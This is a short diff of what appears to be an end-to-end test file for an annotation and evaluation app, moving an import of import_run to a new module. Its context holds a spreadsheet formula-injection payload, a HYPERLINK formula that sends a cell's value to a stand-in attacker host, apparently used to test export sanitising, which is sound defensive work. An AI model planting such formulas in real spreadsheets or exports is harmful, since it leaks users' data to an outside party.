@@ -23,7 +23,7 @@ from annotations.services.item_exports import export_smartypat
 from annotations.services.projects import add_member, create_project
 from annotations.services.taxonomy import install_preset
 from evaluation.models import ModelRun
-from evaluation.services import import_run
+from evaluation.runs.imports import import_run
 from tests.e2e import seed_item_results as seed
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
